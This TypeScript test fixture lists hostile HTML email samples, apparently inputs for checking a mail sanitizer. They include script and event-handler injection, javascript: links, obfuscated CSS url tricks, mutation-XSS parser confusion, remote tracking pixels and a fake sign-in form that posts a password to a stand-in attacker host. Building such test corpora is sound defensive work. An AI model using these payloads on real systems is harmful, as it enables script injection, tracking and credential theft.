import { EVIL } from './hostile-corpus.ts';

/** HTML of mails that want to run something, load something, or lead somebody astray. */
export const ATTACKS: readonly (readonly [what: string, html: string])[] = [
  ['a script', `<script>window.ran = 1</script><script src="https://${EVIL}/x.js"></script>`],
  ['handlers', `<body onload="parent.ran = 1"><img src=x onerror="parent.ran = 1"><p onclick=alert(1)>x</p>`],
  [
    'a picture from elsewhere',
    `<img src="https://${EVIL}/pixel.gif"><img srcset="https://${EVIL}/2x.png 2x"><input type=image src="//${EVIL}/i">`,
  ],
  [
    'a background from elsewhere',
    `<table background="https://${EVIL}/b.png"><tr><td style="background:url(https://${EVIL}/c.png)">x</td></tr></table>`,
  ],
  ['a form', `<form action="https://${EVIL}/" method=post><input name=password><button>Sign in</button></form>`],
  ['a base', `<base href="https://${EVIL}/"><a href="login">sign in</a>`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=https://${EVIL}/"><p>x</p>`],
  [
    'links that run',
    `<a href="javascript:parent.ran = 1">x</a><a href=" java\nscript:parent.ran = 1">y</a><a href="data:text/html,<script>parent.ran = 1</script>">z</a>`,
  ],
  [
    'a style sheet',
    `<link rel=stylesheet href="https://${EVIL}/x.css"><style>@import "https://${EVIL}/y.css"; p { background: url(https://${EVIL}/z) }</style><p>x</p>`,
  ],
  [
    'a style sheet in disguise',
    `<style>p { background: u\\72l(https://${EVIL}/z) }</style><style>p{background:u/**/rl(https://${EVIL}/z)}</style><p style="background:u\\72l(https://${EVIL}/z)">x</p>`,
  ],
  [
    'frames',
    `<iframe src="https://${EVIL}/"></iframe><iframe srcdoc="<script>top.ran = 1</script>"></iframe><object data="https://${EVIL}/"></object><embed src="https://${EVIL}/">`,
  ],
  [
    'pictures that hold markup',
    `<svg onload="parent.ran = 1"><script>parent.ran = 1</script><image href="https://${EVIL}/x"/></svg><math><mtext><script>parent.ran = 1</script></mtext></math>`,
  ],
  [
    'sound and film',
    `<video src="https://${EVIL}/v" autoplay poster="https://${EVIL}/p"></video><audio src="https://${EVIL}/a" autoplay></audio>`,
  ],
  [
    'what parsers read in two ways',
    `<svg></p><style><a id="</style><img src=x onerror=parent.ran=1>"><noscript><p title="</noscript><img src=x onerror=parent.ran=1>">`,
  ],
  [
    'a cover over the page',
    `<div style="position:fixed;inset:0;z-index:9">Sign in again</div><a href="http://127.0.0.1:1/" target="_top">x</a>`,
  ],
  [
    'templates and raw text',
    `<template><img src="https://${EVIL}/t"></template><xmp><img src="https://${EVIL}/t"></xmp><noembed><img src="https://${EVIL}/t"></noembed>`,
  ],
];
